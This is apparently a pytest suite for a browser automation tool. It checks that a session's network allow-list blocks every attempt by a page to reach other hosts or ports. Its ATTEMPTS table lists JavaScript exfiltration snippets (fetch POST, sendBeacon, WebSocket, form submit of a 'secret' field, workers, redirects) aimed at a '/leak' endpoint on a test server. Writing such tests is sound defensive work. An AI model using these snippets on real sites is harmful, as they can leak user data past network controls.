"""Nothing but the allowed hosts and ports is reached, whatever a page tries."""

from __future__ import annotations

import contextlib
from collections.abc import Iterator

import pytest

from dxrobot.browser.find import find_browser
from dxrobot.browser.screen import open_page
from dxrobot.browser.session import BrowserSession
from dxrobot.errors import TargetError

from .conftest import Answer, Pages, Show, serve

# What a page does, with the address of a host that is not allowed: {away}.
ATTEMPTS = {
    "fetch": "fetch('{away}', {{method: 'POST', body: 'x', mode: 'no-cors'}})",
    "image": "new Image().src = '{away}'",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {{src: '{away}'}}))",
    "socket": "new WebSocket('{away}'.replace('http', 'ws'))",
    "beacon": "navigator.sendBeacon('{away}', 'x')",
    "window": "window.open('{away}')",
    "form": "f.action = '{away}'; f.submit()",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('{away}', {{mode: 'no-cors'}})`])))",
    "service worker": "navigator.serviceWorker.register('/worker.js')",
    "redirected fetch": "fetch('/away', {{mode: 'no-cors'}})",
    "redirected post": "f.action = '/away'; f.submit()",
    "redirected frame": "document.body.append(Object.assign(document.createElement('iframe'), {{src: '/away'}}))",
}


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_a_page_cannot_reach_another_port_of_the_same_host(
    session: BrowserSession, show: Show, pages: Pages, elsewhere: Pages, attempt: str
) -> None:
    """The hardest case: a redirection keeps the host's name, and no page announces where it leads."""
    elsewhere.asked.clear()
    away = f"{elsewhere.address}/leak"
    pages.answers["/away"] = Answer(status=307, headers={"Location": away})
    pages.answers["/worker.js"] = Answer(f"fetch('{away}', {{mode: 'no-cors'}})".encode(), "text/javascript")
    show("<form id=f method=post><input name=a value=secret></form>")
    with contextlib.suppress(TargetError):
        session.run(lambda page: (page.evaluate(f"() => {{ {ATTEMPTS[attempt].format(away=away)} }}"), pause(page)))
    with contextlib.suppress(TargetError):  # what the page does as it goes
        session.run(lambda page: open_page(page, "/"))
    session.run(lambda _page: session.windows.close_others())
    pages.answers.clear()
    assert elsewhere.asked == []


def pause(page) -> None:
    page.wait_for_timeout(250)


@pytest.fixture
def wider(pages: Pages, elsewhere: Pages) -> Iterator[BrowserSession]:
    with BrowserSession(find_browser(), pages.address, [elsewhere.address], timeout_s=2.0) as running:
        yield running


def test_a_system_spread_over_several_places_is_reached_as_a_whole(
    wider: BrowserSession, pages: Pages, elsewhere: Pages
) -> None:
    pages.answers["/away"] = Answer(status=302, headers={"Location": f"{elsewhere.address}/menu"})
    elsewhere.html["/menu"] = "<h1>職員認証</h1>"
    wider.run(lambda page: open_page(page, "/away"))
    pages.answers.clear()
    assert wider.run(lambda page: page.inner_text("h1")) == "職員認証"
    assert wider.blocked_hosts() == ()


def test_a_third_site_is_still_out_of_reach(wider: BrowserSession, pages: Pages) -> None:
    for third in serve():
        pages.answers["/away"] = Answer(status=302, headers={"Location": third.address})
        with pytest.raises(TargetError, match="許可されていないアドレス"):
            wider.run(lambda page: open_page(page, "/away"))
        assert third.asked == []
    pages.answers.clear()
